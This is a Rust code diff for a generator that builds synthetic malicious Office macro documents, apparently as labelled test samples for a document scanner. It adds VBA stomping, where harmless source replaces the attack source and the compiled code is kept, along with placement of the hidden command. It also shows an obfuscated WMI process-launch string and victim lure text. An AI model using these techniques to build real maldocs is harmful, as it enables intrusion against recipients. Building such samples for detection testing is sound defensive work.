@@ -1,8 +1,10 @@
 //! Macro projects shaped like the attacks: an entry point, a hidden string, a call that starts it.
 
-use super::hide::{self, Style};
+use super::hide::{self, Hidden};
+use super::place::Shelf;
 use super::script::{self, Shape};
-use super::{Chance, Container, Forged, Module, Page, Project, Truth};
+use super::{Chance, Container, Forged, Module, Page, Place, Project, Style, Truth, routine};
+use crate::forge::document::Extras;
 use crate::forge::ovba::Kind;
 use anyhow::Result;
 
@@ -17,7 +19,29 @@ const STARTS: [&str; 6] = [
     "GetObject(\"winm\" & \"gmts:\" & \"Win32\" & \"_Process\").Create {cmd}, Null, Null, {x}",
 ];
 
-/// A document whose macro would start a hidden command that would fetch from `urls`.
+/// What an attack is to look like.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Plan {
+    /// What it is packed in.
+    pub container: Container,
+    /// Its shape.
+    pub shape: Shape,
+    /// How its command is hidden.
+    pub style: Style,
+    /// Where the hidden text lies.
+    pub place: Place,
+    /// Whether the source is replaced by a harmless one, and only the compiled code is left of the attack.
+    pub stomped: bool,
+}
+
+impl Plan {
+    /// An attack whose text lies in its source.
+    pub fn new(container: Container, shape: Shape, style: Style) -> Self {
+        Self { container, shape, style, place: Place::Source, stomped: false }
+    }
+}
+
+/// An attack whose text lies in its source: see [`planned`].
 pub fn attack(
     container: Container,
     shape: Shape,
@@ -25,6 +49,12 @@ pub fn attack(
     urls: &[String],
     chance: &mut Chance,
 ) -> Result<Forged> {
+    planned(Plan::new(container, shape, style), urls, chance)
+}
+
+/// A document whose macro would start a hidden command that would fetch from `urls`.
+pub fn planned(plan: Plan, urls: &[String], chance: &mut Chance) -> Result<Forged> {
+    let Plan { container, shape, style, place, stomped } = plan;
     let script = script::script(shape, urls, chance);
     let command = script::command(shape, &script, chance);
     let [procedure, variable, x, y, z] =
@@ -32,32 +62,45 @@ pub fn attack(
     let start = *chance.pick(&STARTS);
     let call = start.replace("{cmd}", &variable).replace("{x}", &x).replace("{y}", &y).replace("{z}", &z);
 
-    let (document_body, own_entry, entry_point) = entry(container, &procedure, chance);
-    let hidden = hide::hide(style, &variable, &command, chance);
-    let mut code: Vec<String> = hidden.head;
-    code.extend(own_entry);
-    code.push(format!("Public Sub {procedure}()"));
-    code.push("On Error Resume Next".to_owned());
-    for line in hidden.body {
-        if chance.one_in(7) {
-            code.push(junk(chance));
-        }
-        code.push(format!("    {line}"));
+    let (mut document_body, own_entry, entry_point) = entry(container, &procedure, chance);
+    let ahead = (place != Place::Source).then(|| lure(chance));
+    let shelf =
+        Shelf::choose(place, container, ahead.as_ref().unwrap_or(&Page { lines: Vec::new() }), chance);
+    let held = (place != Place::Source).then_some(shelf.expression.as_str());
+    let mut hidden = if held.is_none() && Style::CONSTANT.contains(&style) {
+        hide::hide(style, &variable, &command, chance)
+    } else {
+        routine::hide(style, held, &variable, &command, chance)
+    };
+    if !hidden.document.is_empty() {
+        document_body.extend([format!("\n{}\n", hidden.document.join("\n"))]);
     }
-    code.extend(call.lines().map(|line| format!("    {line}")));
-    code.push("End Sub\n".to_owned());
+    let (stored, further) = (hidden.stored.take(), std::mem::take(&mut hidden.modules));
+    let code = procedure_with(&procedure, hidden, own_entry, &call, container, chance);
 
-    let module = Module::new(&chance.identifier(), Kind::Standard, &code.join("\n"));
+    let module = Module::new(&chance.identifier(), Kind::Standard, &code);
     let mut modules = super::document_modules(container, &document_body);
     modules.push(module);
+    modules.extend(further);
     let name = if container.is_word() { "Project" } else { "VBAProject" };
     let code_page = if chance.one_in(3) { 1_252 } else { 932 };
-    let project = Project { name: name.to_owned(), code_page, modules };
-    let bytes = super::pack(container, &lure(chance), &project, chance)?;
+    let mut page = match ahead {
+        Some(page) => page,
+        None => lure(chance),
+    };
+    let mut extras = Extras::default();
+    shelf.put(stored.unwrap_or_default(), &mut page, &mut extras, &mut modules);
+    let mut project = Project { name: name.to_owned(), code_page, modules };
+    if stomped {
+        stomp(&mut project, chance);
+    }
+    let bytes = super::pack(container, &page, &extras, &project, chance)?;
     let truth = Truth {
         verdict: "attack",
         shape: shape.name().to_owned(),
         style: Some(style),
+        place,
+        stomped,
         starts_by: Some(start.to_owned()),
         container,
         code_page,
@@ -69,6 +112,48 @@ pub fn attack(
         checks: vec!["document.auto-run-macro", "document.starts-powershell"],
     };
     Ok(Forged { bytes, truth })
+}
+
+/// The standard module: what stands at its head, the procedure that starts the command, what stands at its end.
+fn procedure_with(
+    procedure: &str,
+    hidden: Hidden,
+    own_entry: Vec<String>,
+    call: &str,
+    container: Container,
+    chance: &mut Chance,
+) -> String {
+    let mut code: Vec<String> = hidden.head;
+    code.extend(own_entry);
+    code.push(format!("Public Sub {procedure}()"));
+    code.push("On Error Resume Next".to_owned());
+    for line in hidden.body {
+        if !hidden.whole && chance.one_in(7) {
+            code.push(junk(chance));
+        }
+        code.push(format!("    {}", line.replace("{document}", container.document_module())));
+    }
+    code.extend(call.lines().map(|line| format!("    {line}")));
+    code.push("End Sub\n".to_owned());
+    code.extend(hidden.tail);
+    code.join("\n")
+}
+
+/// Puts harmless source in the place of the attack's, whose compiled code stays.
+fn stomp(project: &mut Project, chance: &mut Chance) {
+    const HARMLESS: [&str; 4] = [
+        "Sub Macro1()\n    MsgBox \"Hello\"\nEnd Sub\n",
+        "' Recorded\nSub Format_Table()\n    Selection.Font.Bold = True\nEnd Sub\n",
+        "Public Function Total(a As Double, b As Double) As Double\n    Total = a + b\nEnd Function\n",
+        "",
+    ];
+    for module in &mut project.modules {
+        module.compiled = Some(module.code.clone());
+        let body = if module.kind == Kind::Standard { *chance.pick(&HARMLESS) } else { "" };
+        let attributes: String =
+            module.code.split_inclusive("\r\n").take_while(|line| line.starts_with("Attribute ")).collect();
+        module.code = attributes + &body.replace('\n', "\r\n");
+    }
 }
 
 /// Body of the document module, lines for the standard module, and the name of the entry point.
@@ -100,7 +185,7 @@ fn junk(chance: &mut Chance) -> String {
 }
 
 /// What the victim is told to do.
-fn lure(chance: &mut Chance) -> Page {
+pub(in crate::forge) fn lure(chance: &mut Chance) -> Page {
     const LURES: [[&str; 2]; 3] = [
         [
             "この文書は以前のバージョンの Microsoft Office で作成されています。",
